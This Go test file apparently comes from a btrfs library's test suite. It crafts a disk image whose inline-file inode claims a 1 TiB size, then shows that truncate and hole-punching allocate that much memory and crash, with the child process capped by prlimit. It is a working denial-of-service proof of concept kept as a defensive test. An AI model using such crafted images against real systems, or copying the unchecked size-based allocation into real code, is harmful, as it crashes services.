package hostile_test

// Attack: a small inline file whose inode says i_size = 1 TiB (no tree-checker
// rule ties i_size to the inline extent). Through the RW path (library and
// the FUSE mount's setattr/fallocate):
//   truncate to 512 GiB  -> fsops.truncateInline: make([]byte, size)
//   punch a 10-byte hole -> fsops.fallocate (inline case): make([]byte, x.Size)
// Each allocates what the hostile inode says: the process dies with
// "fatal error: runtime: out of memory" (or is OOM-killed). The child runs
// under prlimit --as=3G so the machine is safe.
//
// Run:
//   go test -overlay /work/notes/attack/overlay.json -count=1 -v -run TestAttackInlineHugeSize ./internal/testimg/hostile
import (
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gobtrfs/gobtrfs"
	"github.com/gobtrfs/gobtrfs/internal/ondisk"
	"github.com/gobtrfs/gobtrfs/internal/testimg/hostile"
)

func TestAttackInlineHugeSize(t *testing.T) {
	if img := os.Getenv("ATK_IMG"); img != "" {
		w, err := gobtrfs.OpenRW(img, nil)
		if err != nil {
			t.Fatal(err)
		}
		defer w.Close()
		switch os.Getenv("ATK_OP") {
		case "truncate":
			t.Logf("Truncate: %v", w.Truncate("/small", 1<<39))
		case "punch":
			const punchHole, keepSize = 0x02, 0x01
			t.Logf("Fallocate punch: %v", w.Fallocate("/small", punchHole|keepSize, 0, 10))
		}
		return
	}
	img := filepath.Join(t.TempDir(), "inl.img")
	if err := gobtrfs.CreateImage(img, 256<<20); err != nil {
		t.Fatal(err)
	}
	w, err := gobtrfs.OpenRW(img, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WriteFile("/small", []byte(strings.Repeat("s", 100)), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	fsys, err := gobtrfs.Open(img, nil)
	if err != nil {
		t.Fatal(err)
	}
	fi, _ := fsys.Lstat("small")
	ino := fi.Sys().(*gobtrfs.Stat).Ino
	fsys.Close()
	p := hostile.Open(t, img)
	p.EditItem(ondisk.FSTreeObjectID, ondisk.Key{ObjectID: ondisk.ObjectID(ino), Type: ondisk.InodeItemKey}, func(d []byte) {
		binary.LittleEndian.PutUint64(d[16:], 1<<40)
	})
	p.Close()
	for _, op := range []string{"truncate", "punch"} {
		t.Run(op, func(t *testing.T) {
			cp := filepath.Join(t.TempDir(), "c.img")
			b, _ := os.ReadFile(img)
			os.WriteFile(cp, b, 0o644)
			cmd := exec.Command("prlimit", "--as=3000000000", os.Args[0], "-test.run=^TestAttackInlineHugeSize$", "-test.v")
			cmd.Env = append(os.Environ(), "ATK_IMG="+cp, "ATK_OP="+op)
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Errorf("%s on an inline file with i_size 1 TiB: %v\n%.1500s", op, err, out)
			} else {
				t.Logf("%s", out)
			}
		})
	}
}
